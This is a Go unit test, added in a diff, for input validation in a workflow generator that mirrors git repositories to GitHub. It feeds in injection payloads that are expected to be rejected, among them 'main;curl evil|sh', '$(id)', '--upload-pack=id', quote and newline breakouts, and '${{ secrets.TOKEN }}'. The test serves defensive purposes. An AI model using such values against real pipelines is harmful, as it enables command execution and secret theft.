@@ -0,0 +1,70 @@
+package workflow
+
+import (
+	"testing"
+
+	"i2pgit.org/go-i2p/go-github-sync/pkg/config"
+)
+
+func TestCheckInputs(t *testing.T) {
+	tests := []struct {
+		name   string
+		change func(*WorkflowTemplate)
+		valid  bool
+	}{
+		{"defaults", func(*WorkflowTemplate) {}, true},
+		{"all inputs", func(d *WorkflowTemplate) {
+			d.ExtraBranches = []string{"release/1.2"}
+			d.BadgeBranch = "badges"
+			d.Refspecs = []config.Refspec{{Source: "refs/tags/*", Destination: "refs/tags/*", Force: true}}
+			d.Subdirectory = "docs"
+			d.FilterPaths = []string{"secrets/"}
+			d.StripBlobsBiggerThan = "10M"
+			d.AllowedSigners = "dev@example.org ssh-ed25519 AAAA"
+			d.AuthSecret = "MIRROR_TOKEN"
+			d.Environment = "mirror"
+		}, true},
+		{"primary URL with a command", func(d *WorkflowTemplate) { d.PrimaryRepo = "https://example.org/repo.git;id" }, false},
+		{"mirror URL with a space", func(d *WorkflowTemplate) { d.MirrorRepo = "https://github.com/go-i2p/a b" }, false},
+		{"URL starting with -", func(d *WorkflowTemplate) { d.PrimaryRepo = "--upload-pack=id" }, false},
+		{"mirror user", func(d *WorkflowTemplate) { d.MirrorUser = "user$(id)" }, false},
+		{"primary branch", func(d *WorkflowTemplate) { d.PrimaryBranch = "main;curl evil|sh" }, false},
+		{"extra branch", func(d *WorkflowTemplate) { d.ExtraBranches = []string{"a..b"} }, false},
+		{"badge branch", func(d *WorkflowTemplate) { d.BadgeBranch = "$(id)" }, false},
+		{"refspec", func(d *WorkflowTemplate) {
+			d.Refspecs = []config.Refspec{{Source: "refs/heads/a;id", Destination: "refs/heads/a;id"}}
+		}, false},
+		{"subdirectory with a quote", func(d *WorkflowTemplate) { d.Subdirectory = "docs'; id; '" }, false},
+		{"filter path with a newline", func(d *WorkflowTemplate) { d.FilterPaths = []string{"a\nid"} }, false},
+		{"size", func(d *WorkflowTemplate) { d.StripBlobsBiggerThan = "1M; id" }, false},
+		{"allowed signers delimiter", func(d *WorkflowTemplate) { d.AllowedSigners = "a\nALLOWED_SIGNERS\nid" }, false},
+		{"signing keys delimiter", func(d *WorkflowTemplate) { d.SigningKeys = "SIGNING_KEYS" }, false},
+		{"auth secret", func(d *WorkflowTemplate) { d.AuthSecret = "TOKEN }}" }, false},
+		{"Tor proxy secret", func(d *WorkflowTemplate) { d.TorProxySecret = "a-b" }, false},
+		{"environment expression", func(d *WorkflowTemplate) { d.Environment = "${{ secrets.TOKEN }}" }, false},
+		{"known_hosts expression", func(d *WorkflowTemplate) { d.KnownHosts = "${{ secrets.TOKEN }}" }, false},
+		{"unpinned SSH primary", func(d *WorkflowTemplate) {
+			d.AuthMode = config.AuthModeSSH
+			d.PrimaryRepo = "git@example.org:go-i2p/repo.git"
+		}, false},
+		{"pinned SSH primary", func(d *WorkflowTemplate) {
+			d.AuthMode = config.AuthModeSSH
+			d.PrimaryRepo = "git@example.org:go-i2p/repo.git"
+			d.KnownHosts = "example.org ssh-ed25519 AAAA"
+		}, true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			data := WorkflowTemplate{
+				PrimaryRepo:   "https://i2pgit.org/go-i2p/reseed-tools.git",
+				MirrorRepo:    "https://github.com/go-i2p/reseed-tools",
+				PrimaryBranch: "master",
+				MirrorBranch:  "main",
+			}
+			tt.change(&data)
+			if err := checkInputs(data); (err == nil) != tt.valid {
+				t.Errorf("checkInputs() = %v, want valid %v", err, tt.valid)
+			}
+		})
+	}
+}